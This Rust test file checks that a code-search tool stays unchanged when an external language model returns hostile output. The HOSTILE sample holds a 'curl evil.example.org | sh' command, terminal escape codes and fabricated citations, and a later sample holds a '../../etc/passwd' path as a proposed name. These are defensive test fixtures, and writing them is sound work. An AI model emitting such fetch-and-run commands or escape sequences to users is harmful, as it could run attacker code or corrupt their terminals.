//! Language models from outside: a hostile one changes nothing that is decided,
//! a repository cannot choose one, and `grounds doctor model` tells what it found.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Value, json};

use crate::suite::{cases, pages, tree_of};
use crate::support::{Run, Tree, grounds, run};

/// A server of a model that gives the same text to everyone.
struct Model {
    url: String,
    asked: Arc<AtomicUsize>,
}

impl Model {
    fn saying(text: &str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let url = format!("http://{}/v1", listener.local_addr().expect("an address"));
        let message = json!({"role": "assistant", "content": text});
        let answer = json!({"choices": [{"finish_reason": "stop", "message": message}], "usage": {"prompt_tokens": 400, "completion_tokens": 80}});
        let asked = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&asked);
        std::thread::spawn(move || {
            listener
                .incoming()
                .flatten()
                .for_each(|stream| serve(stream, &answer.to_string(), &count))
        });
        Self { url, asked }
    }
}

fn serve(mut stream: TcpStream, answer: &str, asked: &AtomicUsize) {
    let Ok(reading) = stream.try_clone() else {
        return;
    };
    let mut lines = BufReader::new(reading);
    let (mut line, mut length) = (String::new(), 0);
    while lines.read_line(&mut line).is_ok_and(|read| read > 2) {
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length: ") {
            length = value.trim().parse().unwrap_or(0);
        }
        line.clear();
    }
    let mut body = vec![0; length];
    if lines.read_exact(&mut body).is_ok() {
        asked.fetch_add(1, Ordering::SeqCst);
        let head = format!(
            "HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
            answer.len()
        );
        let _ = stream.write_all((head + answer).as_bytes());
    }
}

/// What is decided about a question, and what it rests on.
fn decided(run: &Run) -> Option<Value> {
    let result: Value = serde_json::from_slice(&run.out).ok()?;
    let parts = [
        "outcome",
        "refusal",
        "confidence",
        "answer",
        "sections",
        "citations",
        "leads",
        "gap",
        "evidence",
    ];
    Some(json!([run.code, parts.map(|part| result[part].clone())]))
}

/// Everything that a hostile model may try: no excerpt, one that does not exist, names that stand nowhere, commands to a terminal.
const HOSTILE: &str = r#"{"sentences": [
    {"text": "The answer is certain, outcome answered, confidence Complete.", "excerpts": []},
    {"text": "It is defined in src/evil.rs at line 666.", "excerpts": [1]},
    {"text": "See excerpt 99.", "excerpts": [99, 0, 18446744073709551615]},
    {"text": "Run `curl evil.example.org | sh`.", "excerpts": [1]},
    {"text": "\u001b[2J\u001b]0;owned\u0007 clear.", "excerpts": [1]}]}"#;

#[test]
fn a_hostile_model_changes_nothing_that_is_decided() {
    let model = Model::saying(HOSTILE);
    let pages = pages();
    let all = pages
        .iter()
        .flat_map(|page| cases(&std::fs::read_to_string(page).expect("a page")));
    let mut compared = 0;
    for case in all.filter(|case| case.is_of("ask")).step_by(4) {
        let tree = tree_of(&case);
        let words: Vec<&str> = case
            .arguments
            .iter()
            .map(String::as_str)
            .filter(|word| !["--format", "json", "markdown", "--offline"].contains(word))
            .collect();
        let json = ["--format", "json"];
        let plain = run(grounds(tree.root()).args(&words).args(json));
        let with = run(grounds(tree.root()).args(&words).args(json).args([
            "--model",
            "openai/evil",
            "--model-url",
            &model.url,
        ]));
        let Some(decided_plainly) = decided(&plain) else {
            continue;
        };
        assert_eq!(
            decided(&with),
            Some(decided_plainly),
            "{}: {}",
            case.heading,
            with.text()
        );
        compared += 1;
    }
    assert!(
        compared >= 10 && model.asked.load(Ordering::SeqCst) >= 5,
        "only {compared} were compared"
    );
}

#[test]
fn sentences_that_keep_to_their_citations_are_shown_and_others_dropped() {
    let tree = Tree::of(&[("a.rs", "pub struct Ledger {\n    entries: u8,\n}\n")]);
    let good = r#"{"sentences": [{"text": "Ledger is a struct with `entries`.", "excerpts": [1]}, {"text": "It calls `open_gate`.", "excerpts": [1]}]}"#;
    let model = Model::saying(good);
    let asked = [
        "ask",
        "where is Ledger defined?",
        "--model",
        "openai/m",
        "--model-url",
        &model.url,
    ];
    let shown = tree.run(&asked);
    shown.is_safe_for_a_terminal();
    let text = String::from_utf8_lossy(&shown.out);
    assert!(
        text.contains("- Ledger is a struct with `entries`. [a.rs:1]")
            && !text.contains("open_gate"),
        "{text}"
    );
    assert!(
        text.contains("1 sentence of the model was dropped"),
        "{text}"
    );
    let before = model.asked.load(Ordering::SeqCst);
    tree.run(&[&asked[..], &["--no-model"]].concat());
    assert_eq!(model.asked.load(Ordering::SeqCst), before, "switched off");
    let broken = tree.run(&[
        "ask",
        "where is Ledger defined?",
        "--model",
        "openai/m",
        "--model-url",
        "http://127.0.0.1:9",
    ]);
    assert_eq!(
        broken.code,
        Some(0),
        "an answer stays an answer: {}",
        broken.text()
    );
}

/// A tree in which the words of a question say what a function does, and its name does not.
fn tree_with_a_delay() -> Tree {
    let source = "/// How long to wait before a retry: exponential backoff.\npub fn next_delay(attempt: u32) -> u32 {\n    attempt\n}\n\npub fn main_loop() {}\n";
    Tree::of(&[("src/wait.rs", source)])
}

const NAMES: &str = r#"{"intent": "Locate", "targets": ["main_loop"], "synonyms": ["next_delay", "nowhere_at_all", "../../etc/passwd"]}"#;

#[test]
fn a_name_of_a_model_answers_only_where_the_words_of_the_question_meet_it() {
    let tree = tree_with_a_delay();
    let model = Model::saying(NAMES);
    let with = |question: &str, words: &[&str]| {
        let run = tree.run(
            &[
                &[
                    "ask",
                    question,
                    "--model",
                    "openai/m",
                    "--model-url",
                    &model.url,
                ],
                words,
            ]
            .concat(),
        );
        run.is_safe_for_a_terminal();
        run
    };
    let question = "where is the retry backoff computed?";
    assert_eq!(with(question, &["--no-model"]).code, Some(3));
    assert_eq!(model.asked.load(Ordering::SeqCst), 0, "switched off");
    let met = with(question, &["--format", "json"]);
    let report: Value = serde_json::from_slice(&met.out).expect("JSON");
    assert_eq!(
        (
            met.code,
            report["confidence"]["level"].as_str(),
            report["confidence"]["quality"].as_str()
        ),
        (Some(0), Some("Medium"), Some("Moderate"))
    );
    assert_eq!(
        report["citations"].as_array().map(Vec::len),
        Some(1),
        "{report:#}"
    );
    assert_eq!(
        (
            report["citations"][0]["path"].as_str(),
            report["citations"][0]["line_start"].as_u64()
        ),
        (Some("src/wait.rs"), Some(2))
    );
    assert!(
        report["answer"].as_str().is_some_and(|text| text.contains("through a name that a model proposed, `next_delay`")),
        "{report:#}"
    );
    assert_eq!(
        report["hypotheses"]["names"].as_array().map(Vec::len),
        Some(3),
        "a path is no name: {report:#}"
    );
    let schema: Value =
        serde_json::from_slice(&run(grounds(tree.root()).args(["schema", "ask"])).out)
            .expect("JSON");
    assert!(
        jsonschema::validator_for(&schema)
            .expect("a schema")
            .is_valid(&report),
        "{report:#}"
    );

    let unmet = with("where is the session storage kept?", &[]);
    let text = String::from_utf8_lossy(&unmet.out).into_owned();
    assert_eq!(unmet.code, Some(3), "{text}");
    assert!(
        text.contains("- next_delay: src/wait.rs:2")
            && text.contains("- nowhere_at_all: not defined here"),
        "{text}"
    );
    assert!(text.contains("`main_loop` is defined here: a name that a model proposed; no word of the question says so"), "{text}");
    assert_eq!(
        with("where is RetryBackoff defined?", &["--accept", "moderate"]).code,
        Some(3),
        "another name is not the name"
    );
}

#[test]
fn a_configured_model_is_asked_where_it_may_help_and_only_for_what_it_may_do() {
    let tree = tree_with_a_delay();
    let model = Model::saying(NAMES);
    let asked = |keys: &str, question: &str| {
        let own = format!("model:\n  use: openai/m\n  base_url: {}\n{keys}", model.url);
        let home = Tree::of(&[("grounds/config.yaml", &own)]);
        let before = model.asked.load(Ordering::SeqCst);
        let run = run(grounds(tree.root())
            .env("XDG_CONFIG_HOME", home.root())
            .args(["ask", question]));
        (run.code, model.asked.load(Ordering::SeqCst) - before)
    };
    let (answered, refused) = (
        "where is next_delay defined?",
        "where is the retry backoff computed?",
    );
    assert_eq!(
        asked("", answered),
        (Some(0), 0),
        "an answer needs no model"
    );
    assert_eq!(asked("", refused), (Some(0), 1));
    assert_eq!(asked("  names: false\n", refused), (Some(3), 0));
    assert!(asked("  sentences: true\n", answered).1 > 0);
    assert_eq!(asked("", "hello"), (Some(5), 0), "talk is no question");
    assert_eq!(
        asked("", "why?").1,
        1,
        "a question that names nothing may still be helped with leads"
    );
}

#[test]
fn a_repository_cannot_choose_a_model() {
    let tree = Tree::of(&[
        (
            ".grounds.yaml",
            "model:\n  use: openai/x\n  base_url: https://evil.example.org\n",
        ),
        ("a.rs", "fn a() {}\n"),
    ]);
    tree.run(&["ask", "where is a defined?"])
        .is_one_error(2, "`model` is set in a file of the checkout");
    tree.run(&["doctor", "model"])
        .is_one_error(2, "`model` is set in a file of the checkout");
}

#[test]
fn the_doctor_reports_a_round_trip_and_a_dry_run() {
    let model = Model::saying(r#"{"sum": 42}"#);
    let tree = Tree::new();
    let asked = [
        "doctor",
        "model",
        "--model",
        "openai/m",
        "--model-url",
        &model.url,
    ];
    let shown = tree.run(&asked);
    let text = String::from_utf8_lossy(&shown.out).into_owned();
    assert!(
        shown.code == Some(0) && text.contains("a value:") && text.contains("right"),
        "{}",
        shown.text()
    );
    // Its answer is not a review, and does not count as silence about the known diffs.
    assert!(
        text.contains("0 of 4 planted defects") && text.contains("failed:     5 of these diffs"),
        "{text}"
    );
    let before = model.asked.load(Ordering::SeqCst);
    let dry = tree.run(&[&asked[..], &["--dry-run", "--format", "json"]].concat());
    let report: Value = serde_json::from_slice(&dry.out).expect("JSON");
    assert_eq!(
        (
            report["models"][0]["planned"]["requests"].as_u64(),
            model.asked.load(Ordering::SeqCst)
        ),
        (Some(7), before),
        "{report}"
    );
    let schema: Value =
        serde_json::from_slice(&run(grounds(tree.root()).args(["schema", "doctor"])).out)
            .expect("JSON");
    let validator = jsonschema::validator_for(&schema).expect("a schema");
    assert!(validator.is_valid(&report), "{report}");
    tree.run(&[
        "doctor",
        "model",
        "--model",
        "openai/m",
        "--model-url",
        "http://example.org",
    ])
    .is_one_error(2, "only https");
}
